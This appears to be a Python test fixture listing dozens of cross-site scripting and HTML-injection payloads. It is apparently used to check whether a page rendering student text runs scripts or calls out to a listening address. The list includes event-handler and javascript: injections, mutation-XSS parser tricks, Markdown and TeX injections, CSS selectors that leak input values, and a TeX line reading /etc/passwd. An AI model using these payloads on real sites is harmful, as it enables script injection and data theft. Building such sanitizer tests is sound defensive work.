"""What a student could write to run a script in a reader's browser, or to be told that the page was read.

{n} is the payload's number: a script that runs marks the page with it. {at} is an address that listens.
"""

RUN = "document.documentElement.setAttribute('data-ran-{n}', '1')"
PAYLOADS = [
    "<script>" + RUN + "</script>",
    "</code></pre><script>" + RUN + "</script>",
    "</textarea></title></style></script><script>" + RUN + "</script>",
    "<SCRIPT\n>" + RUN + "</SCRIPT\t>",
    "<scr<script>ipt>" + RUN + "</scr</script>ipt>",
    '<img src=x onerror="' + RUN + '">',
    "<img/src=x/onerror=" + RUN + ">",
    "<svg onload=\"" + RUN + "\"></svg>",
    "<svg><script>" + RUN + "</script></svg>",
    "<svg><animate onbegin=\"" + RUN + "\" attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"" + RUN + "\">",
    "<body onload=\"" + RUN + "\">",
    "<details open ontoggle=\"" + RUN + "\"><summary>x</summary></details>",
    "<input autofocus onfocus=\"" + RUN + "\">",
    "<video><source onerror=\"" + RUN + "\"></video>",
    "<marquee onstart=\"" + RUN + "\">x</marquee>",
    "<iframe srcdoc=\"<script>parent." + RUN + "</script>\"></iframe>",
    "<iframe src=\"javascript:parent." + RUN + "\"></iframe>",
    "<object data=\"data:text/html,<script>" + RUN + "</script>\"></object>",
    "<embed src=\"javascript:" + RUN + "\">",
    "<a href=\"javascript:" + RUN + "\" autofocus onfocus=\"" + RUN + "\">x</a>",
    "[x](javascript:" + RUN + ")",
    "[x]( java\nscript:" + RUN + ")",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:" + RUN + ' "onerror=' + RUN + '")',
    "![x](x\"onerror=\"" + RUN + ")",
    "<style>@import url({at}/style{n}.css); body {{ background: url({at}/back{n}.png) }}</style>",
    "<link rel=stylesheet href={at}/link{n}.css>",
    "<img src={at}/img{n}.png>",
    "![x]({at}/md{n}.png)",
    "[x]({at}/link{n})",
    "<{at}/auto{n}>",
    "<meta http-equiv=refresh content=\"0;url={at}/refresh{n}\">",
    "<base href={at}/><form action={at}/form{n}><button>x</button></form>",
    "<template><script>" + RUN + "</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=" + RUN + ">\">",
    "$\\href{{javascript:" + RUN + "}}{{x}}$ $$</script><script>" + RUN + "</script>$$",
    "`` ` ``<script>" + RUN + "</script>``",
    "```\n</code></pre><script>" + RUN + "</script>\n```",
    "<!--><script>" + RUN + "</script>-->",
    "<![CDATA[><script>" + RUN + "</script>]]>",
    "\u202e<script>\u2066" + RUN + "\u2069</script>\u202c",
    "\x00<scr\x00ipt>" + RUN + "</scr\x00ipt>\x1b]8;;{at}/osc{n}\x07x\x1b]8;;\x07",
    "{{{{ ''.__class__ }}}} {{% include 'x' %}}<script>" + RUN + "</script>",
    # SVG and MathML
    "<svg><foreignObject><img src=x onerror=\"" + RUN + "\"></foreignObject></svg>",
    "<svg><a xlink:href=\"javascript:" + RUN + "\"><set attributeName=href to=\"javascript:" + RUN + "\"/>x</a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='" + RUN + "'/>#x\"/></svg>",
    "<svg><image href={at}/svg{n}.png /><feImage xlink:href={at}/fe{n}.png /></svg>",
    "<svg><style>@import '{at}/svgstyle{n}.css';</style></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=\"" + RUN + "\"></annotation-xml></math>",
    "<math href=\"javascript:" + RUN + "\"><mtext>x</mtext></math>",
    # what is harmless until it is parsed a second time
    "<svg></p><style><a title=\"</style><img src=x onerror='" + RUN + "'>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror='" + RUN + "'&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=\"" + RUN + "\">",
    "<noscript><style></noscript><img src=x onerror=\"" + RUN + "\"></style>",
    "<template><style></template><img src=x onerror=\"" + RUN + "\"></style>",
    "<select><style></select><img src=x onerror=\"" + RUN + "\"></style>",
    "<table><td><p title=\"`<table><img src=x onerror='" + RUN + "'>`\">",
    "&lt;img src=x onerror=\"" + RUN + "\"&gt; &amp;lt;script&amp;gt;" + RUN + "&amp;lt;/script&amp;gt;",
    "<div>`\n\n<img src=x onerror=\"" + RUN + "\">\n\n`</div>",
    # TeX
    "$\\unicode{{x3c}}\\require{{html}}\\href{{{at}/tex{n}}}{{x}}$ $\\style{{background:url({at}/texs{n})}}{{x}}$",
    "$$\\text{{</span><img src=x onerror=\"" + RUN + "\">}}$$ $\\def\\a{{\\a\\a}}\\a$ $\\input{{/etc/passwd}}$",
    # what leaves by a style, a hint to the browser, or a frame
    "<p style=\"background:url({at}/css{n}.png);list-style:url({at}/list{n})\">x</p>",
    "<style>input[value^=a] {{ background: url({at}/steal{n}) }} @font-face {{ src: url({at}/f{n}) }}</style>",
    "<link rel=preconnect href={at}><link rel=prefetch href={at}/pre{n}><link rel=icon href={at}/icon{n}>",
    "<img srcset=\"{at}/set{n}.png 1x\"><picture><source srcset={at}/source{n}.png><img></picture>",
    "<video poster={at}/poster{n}.png></video><audio src={at}/audio{n} autoplay></audio><track src={at}/t{n}>",
    "<iframe src={at}/frame{n}></iframe><object data={at}/object{n}></object><embed src={at}/embed{n}>",
    "<a href={at}/ping{n} ping={at}/pinged{n} autofocus>x</a><area href={at}/area{n}>",
    "<input type=image src={at}/input{n}.png><button formaction={at}/button{n} autofocus>x</button>",
    "<body background={at}/body{n}.png><table background={at}/table{n}.png><td>x</table>",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) [x](vbscript:x) [x][r]\n\n[r]: javascript:" + RUN,
    # what would make the page unreadable
    "> " * 300 + "deep\n\n" + "".join("  " * i + "- x\n" for i in range(150)),
    "<div>" * 2000 + "x" + "*" * 3000 + "[" * 3000,
    "</div></section></body></html><plaintext>",
    "<textarea><xmp><title><!--",
]  # fmt: skip


def texts(at: str) -> list[str]:
    """The payloads, numbered, with an address that listens."""
    return [p.format(n=n, at=at) for n, p in enumerate(PAYLOADS)]


def staying(at: str) -> list[str]:
    """Those that do not lead away from the page, which would hide whether the others ran."""
    return [t for t in texts(at) if "http-equiv" not in t and "<base" not in t]
